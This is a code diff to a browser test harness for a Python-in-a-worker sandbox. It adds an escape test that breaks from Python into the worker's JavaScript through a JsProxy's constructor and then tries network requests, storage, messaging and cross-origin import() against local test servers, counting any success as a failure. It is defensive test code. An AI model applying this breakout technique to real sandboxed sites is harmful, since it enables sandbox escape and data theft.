@@ -31,9 +31,86 @@ if (!worker) {
 const esbuild = createRequire(import.meta.url)('esbuild');
 const syncAnswerModule = esbuild.buildSync({ entryPoints: [path.join(root, 'src/sandbox/syncAnswer.ts')], bundle: true, format: 'esm', write: false }).outputFiles[0].text;
 
+/** How the site starts its Python worker: under the page's script policy (src/ui/workerUnderPagePolicy.ts). */
+const policyWorkerModule = esbuild.buildSync({ entryPoints: [path.join(root, 'src/ui/workerUnderPagePolicy.ts')], bundle: true, format: 'esm', write: false }).outputFiles[0].text;
+/** The built page's script policy (its meta tag), which the probe page carries too. */
+const policyMeta = (await readFile(path.join(dist, 'index.html'), 'utf8')).match(/<meta http-equiv="Content-Security-Policy"[^>]*>/)?.[0];
+if (!policyMeta) {
+  console.error('dist/index.html has no Content-Security-Policy meta tag');
+  process.exit(1);
+}
+
+/** The globals the worker's lockdown keeps (src/sandbox/python/pythonRealm.ts), bundled for this check. */
+const realm = esbuild.buildSync({ entryPoints: [path.join(root, 'src/sandbox/python/pythonRealm.ts')], bundle: true, format: 'esm', write: false }).outputFiles[0].text;
+const { COMPUTATION_GLOBALS } = await import(`data:text/javascript;base64,${Buffer.from(realm).toString('base64')}`);
+
+/**
+ * Issue 31: a script that breaks out of Python into its worker's JavaScript (a JsProxy held in a closure of
+ * requests; its constructor.constructor is that realm's Function) and tries the page's powers. Each try does
+ * something this server or the probe page would see if it got through: a request under __escape/, a message on the
+ * worker or a BroadcastChannel, a request to a second loopback server (another origin, like any host other than the
+ * replicas). __HOST__ is the probe's host, __OTHER__ the second server's.
+ */
+const ESCAPE = `${await readFile(path.join(root, 'test/fixtures/python/find-bridge.py'), 'utf8')}import json
+print(bridge.constructor(${JSON.stringify(String.raw`
+const base = 'http://__HOST__/sub/difflab/__escape/';
+const tries = {};
+const attempt = (name, f) => {
+  try {
+    const value = f();
+    tries[name] = value === undefined || value === null ? 'refused' : 'reached: ' + String(value).slice(0, 40);
+  } catch {
+    tries[name] = 'refused';
+  }
+};
+const g = Function('return this')();
+attempt('fetch', () => g.fetch(base + 'fetch'));
+attempt('XMLHttpRequest', () => { const x = new g.XMLHttpRequest(); x.open('GET', base + 'xhr', false); x.send(); return x.status; });
+attempt('WebSocket', () => new g.WebSocket(base.replace('http', 'ws') + 'ws'));
+attempt('EventSource', () => new g.EventSource(base + 'sse'));
+attempt('importScripts', () => g.importScripts(base + 'script.js'));
+attempt('Worker', () => new g.Worker(base + 'worker.js'));
+attempt('SharedWorker', () => new g.SharedWorker(base + 'shared.js'));
+attempt('WebTransport', () => new g.WebTransport(base.replace('http', 'https') + 'wt'));
+attempt('navigator.sendBeacon', () => g.navigator.sendBeacon(base + 'beacon', 'x'));
+attempt('navigator.storage', () => g.navigator.storage.getDirectory());
+attempt('indexedDB', () => g.indexedDB.open('difflab-escape'));
+attempt('caches', () => g.caches.open('difflab-escape'));
+attempt('localStorage', () => g.localStorage.setItem('difflab-escape', 'x'));
+attempt('sessionStorage', () => g.sessionStorage.setItem('difflab-escape', 'x'));
+attempt('document', () => g.document.title);
+attempt('window', () => g.window.document);
+attempt('BroadcastChannel', () => new g.BroadcastChannel('difflab-escape').postMessage('forged'));
+attempt('postMessage to the page', () => g.postMessage({ type: 'done', ok: true }));
+attempt('self.postMessage', () => g.self.postMessage({ type: 'console', entry: { level: 'log', text: 'forged' } }));
+attempt('reportError', () => g.reportError(new Error('forged')));
+attempt('close', () => g.close);
+attempt('location', () => g.location.href);
+attempt('webkitRequestFileSystem', () => g.webkitRequestFileSystem(0, 1, () => {}));
+attempt('Notification', () => new g.Notification('forged'));
+attempt('createImageBitmap', () => g.createImageBitmap);
+attempt('OffscreenCanvas', () => new g.OffscreenCanvas(1, 1));
+attempt('Request', () => new g.Request(base + 'request'));
+// Whatever is left on the worker's global scope, own or inherited, with a value.
+const left = new Set();
+for (let t = g; t && t !== Object.prototype && t !== EventTarget.prototype; t = Object.getPrototypeOf(t)) {
+  for (const name of Object.getOwnPropertyNames(t)) if (name !== 'constructor' && g[name] !== undefined) left.add(name);
+}
+tries.globals = [...left].sort();
+// Dynamic import() fetches a module: no script API turns it off; the page's script policy, which the worker
+// inherits, must refuse another origin's. The module is only on that server: it cannot load without a request there.
+import('http://__OTHER__/import.js').catch(() => {});
+import(base + 'import.js').catch(() => {});
+return JSON.stringify(tries);
+`)})())
+`;
+
 // The probe: plain JavaScript in the page, the site's worker chunk, and the result posted back to this server.
-const probe = `<!doctype html><meta charset="utf-8"><title>python probe</title><pre id="out">running</pre><script type="module">
+// The page carries the site's script policy, so its own script is a file of the site, as the site's are.
+const probe = `<!doctype html><meta charset="utf-8">${policyMeta}<title>python probe</title><pre id="out">running</pre><script type="module" src="probe.js"></script>`;
+const probeScript = `
 import { newSyncBuffer, writeSyncAnswer } from './syncAnswer.js';
+import { workerUnderPagePolicy } from './workerUnderPagePolicy.js';
 const workerUrl = new URL('assets/${worker}', location.href);
 const source = ${JSON.stringify(`
 import requests, json, datetime, time
@@ -60,7 +137,7 @@ for name in ('pyodide.ffi', 'pyodide.http', 'pyodide_js'):
 print(json.dumps({'closed': closed, 'hashRandomization': sys.flags.hash_randomization, 'hash': hash('difflab')}))
 `)};
 function start() {
-  const worker = new Worker(workerUrl, { type: 'module' });
+  const worker = workerUnderPagePolicy(workerUrl, 'difflab-python');
   const channel = new MessageChannel();
   worker.postMessage({ port: channel.port2 }, [channel.port2]);
   return { worker, port: channel.port1, created: performance.now() };
@@ -68,12 +145,14 @@ function start() {
 // Where each run stands, on the page, for the harness to read when no result comes.
 const progress = {};
 const show = () => { document.getElementById('out').textContent = JSON.stringify(progress); };
-function run({ worker: thread, port: worker, created }, label, posted = performance.now()) {
+function run({ worker: thread, port: worker, created }, label, posted = performance.now(), script = source, lingerMs = 0) {
   return new Promise((resolve) => {
     const fetches = [];
     progress[label] = { posted: true, messages: [] };
     show();
-    const out = { console: [], fetchGaps: [], createdToStarted: 0, postedToStarted: 0 };
+    const out = { console: [], fetchGaps: [], createdToStarted: 0, postedToStarted: 0, toPage: [] };
+    // The worker's own messages to the page (the sandbox speaks only on its port): a script must not forge any.
+    thread.onmessage = ({ data }) => out.toPage.push(JSON.stringify(data).slice(0, 200));
     // Shared memory where the page has it (isolated), as runScript gives it: the worker then blocks on it.
     const sync = self.crossOriginIsolated ? { buffer: newSyncBuffer(64 << 20) } : undefined;
     worker.onmessage = ({ data }) => {
@@ -93,8 +172,8 @@ function run({ worker: thread, port: worker, created }, label, posted = performa
       if (data.type === 'done') {
         out.done = { ok: data.ok, reason: data.reason, error: data.error };
         for (let i = 1; i < fetches.length; i++) out.fetchGaps.push(fetches[i] - fetches[i - 1]);
-        thread.terminate();
-        resolve(out);
+        // A script's asynchronous tries get time to reach this server before the worker goes.
+        setTimeout(() => { thread.terminate(); resolve(out); }, lingerMs);
       }
     };
     thread.onerror = (e) => { out.done = { ok: false, error: 'worker error: ' + e.message }; resolve(out); };
@@ -105,7 +184,7 @@ function run({ worker: thread, port: worker, created }, label, posted = performa
       thread.terminate();
       resolve(out);
     }, 90000);
-    worker.postMessage({ type: 'run', language: 'python', source, limits: { timeMs: 60000, memoryBytes: 64 << 20, maxRequests: 500, maxConsoleChars: 200000 }, determinism: { now: Date.parse('2026-03-25T16:00:00Z'), randomSeed: 1 }, files: [], ...(sync ? { sync } : {}) });
+    worker.postMessage({ type: 'run', language: 'python', source: script, limits: { timeMs: 60000, memoryBytes: 64 << 20, maxRequests: 500, maxConsoleChars: 200000 }, determinism: { now: Date.parse('2026-03-25T16:00:00Z'), randomSeed: 1 }, files: [], ...(sync ? { sync } : {}) });
   });
 }
 const median = (xs) => { const s = [...xs].sort((a, b) => a - b); return s.length ? s[Math.floor((s.length - 1) / 2)] : null; };
@@ -115,14 +194,21 @@ const cold = await run(first, 'cold', first.created);
 // The spare has been loading meanwhile, as the site's factory keeps one ahead of need.
 await new Promise((r) => setTimeout(r, 3000));
 const warm = await run(spare, 'warm');
-const result = { userAgent: navigator.userAgent, jspi: typeof WebAssembly.Suspending === 'function', isolated: self.crossOriginIsolated, cold, warm, roundTripMs: median(warm.fetchGaps.slice(10)), coldStartMs: cold.createdToStarted, nextStartMs: warm.postedToStarted };
+const heard = [];
+const listener = new BroadcastChannel('difflab-escape');
+listener.onmessage = ({ data }) => heard.push(String(data));
+const escape = await run(start(), 'escape', undefined, ${JSON.stringify(ESCAPE)}.replaceAll('__HOST__', location.host).replaceAll('__OTHER__', '__OTHER_HOST__'), 3000);
+escape.broadcast = heard;
+const result = { escape, userAgent: navigator.userAgent, jspi: typeof WebAssembly.Suspending === 'function', isolated: self.crossOriginIsolated, cold, warm, roundTripMs: median(warm.fetchGaps.slice(10)), coldStartMs: cold.createdToStarted, nextStartMs: warm.postedToStarted };
 document.getElementById('out').textContent = JSON.stringify(result, null, 2);
 await fetch('__result', { method: 'POST', body: JSON.stringify(result) });
-</script>`;
+`;
 
 const types = { '.js': 'text/javascript', '.mjs': 'text/javascript', '.wasm': 'application/wasm', '.json': 'application/json', '.zip': 'application/zip', '.html': 'text/html', '.css': 'text/css', '.ttf': 'font/ttf' };
 let deliver = () => {};
 const misses = [];
+/** Requests the escape script's tries made (none may arrive). */
+const escapes = [];
 const server = createServer(async (req, res) => {
   const url = new URL(req.url ?? '/', 'http://127.0.0.1');
   if (!url.pathname.startsWith(BASE)) {
@@ -130,7 +216,13 @@ const server = createServer(async (req, res) => {
     return void res.writeHead(404).end();
   }
   const rel = decodeURIComponent(url.pathname.slice(BASE.length));
+  if (rel.startsWith('__escape/')) {
+    escapes.push(rel);
+    return void res.writeHead(404).end();
+  }
   if (rel === 'probe.html') return void res.writeHead(200, { 'Content-Type': 'text/html' }).end(probe);
+  if (rel === 'probe.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(probeScript.replace('__OTHER_HOST__', otherHost));
+  if (rel === 'workerUnderPagePolicy.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(policyWorkerModule);
   if (rel === 'syncAnswer.js') return void res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(syncAnswerModule);
   if (rel === '__result') {
     const chunks = [];
@@ -149,6 +241,14 @@ const server = createServer(async (req, res) => {
   }
 });
 await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+/** Another origin on this machine that serves any module to anyone (CORS): what the escape script's import() tries. */
+const otherRequests = [];
+const other = createServer((req, res) => {
+  otherRequests.push(req.url);
+  res.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' }).end('export const reached = true;');
+});
+await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
+const otherHost = `127.0.0.1:${other.address().port}`;
 const probeUrl = `http://127.0.0.1:${server.address().port}${BASE}probe.html`;
 const nextResult = (ms) =>
   new Promise((resolve, reject) => {
@@ -238,6 +338,28 @@ async function inBrowser({ browser, prefs, register, notRunInSite }, name) {
   }
 }
 
+/** What the escape script reached (issue 31): nothing of the page, its storage, the network or the page's messages. */
+const importsReached = new Set();
+function escapeProblems(escape, name) {
+  const problems = [];
+  if (!escape?.done?.ok) return [`the escape script did not run: ${escape?.done?.error}`];
+  const tries = JSON.parse(escape.console.at(-1) ?? '{}');
+  const left = tries.globals ?? [];
+  delete tries.globals;
+  for (const [name, outcome] of Object.entries(tries)) if (outcome !== 'refused') problems.push(`escape: ${name} ${outcome}`);
+  const extra = left.filter((name) => !COMPUTATION_GLOBALS.has(name));
+  if (extra.length) problems.push(`escape: globals left beyond the computation ones: ${extra.join(' ')}`);
+  if (escape.toPage.length) problems.push(`escape: the worker posted to the page: ${escape.toPage.join(' ')}`);
+  if (escape.broadcast.length) problems.push(`escape: a BroadcastChannel message reached the page: ${escape.broadcast.join(' ')}`);
+  const elsewhere = otherRequests.splice(0);
+  if (elsewhere.length) problems.push(`escape: import() reached another origin: ${elsewhere.join(' ')}`);
+  const requests = escapes.splice(0);
+  if (requests.includes('__escape/import.js')) importsReached.add(name);
+  const reached = requests.filter((rel) => rel !== '__escape/import.js');
+  if (reached.length) problems.push(`escape: requests reached this server: ${reached.join(' ')}`);
+  return problems;
+}
+
 let failed = 0;
 for (const [name, profile] of Object.entries(PROFILES)) {
   if (only && only !== name && only !== profile.browser) continue;
@@ -266,6 +388,7 @@ for (const [name, profile] of Object.entries(PROFILES)) {
       problems.push(`bridges or hash seed: ${bridges}`);
     }
     if (r.warm.fetchGaps.length !== REQUESTS - 1) problems.push(`${r.warm.fetchGaps.length + 1} requests reached the page`);
+    problems.push(...escapeProblems(r.escape, name));
     const how = r.isolated ? 'shared memory' : 'JSPI';
     console.log(`${problems.length ? '✗' : '✓'} ${name}: cold start ${Math.round(r.coldStartMs)} ms, next script starts in ${Math.round(r.nextStartMs)} ms, round trip (median) ${r.roundTripMs?.toFixed(2)} ms (${how})`);
     for (const p of problems) console.log(`    ${p}`);
@@ -276,9 +399,12 @@ for (const [name, profile] of Object.entries(PROFILES)) {
   }
 }
 const outside = misses.filter((m) => m !== '/favicon.ico');
+// Allowed by the policy's 'self' (issue 31's report): a module worker's import() can fetch a module of the site's own origin.
+if (importsReached.size) console.log(`  note: the page worker's dynamic import() of a module of the site's own origin reached this server in ${[...importsReached].join(', ')} (see docs/sandbox.md, "Python: what a script can and cannot do")`);
 if (outside.length) {
   console.log(`✗ requests outside ${BASE} or missing: ${[...new Set(outside)].join(', ')}`);
   failed++;
 }
 server.close();
+other.close();
 process.exit(failed ? 1 : 0);
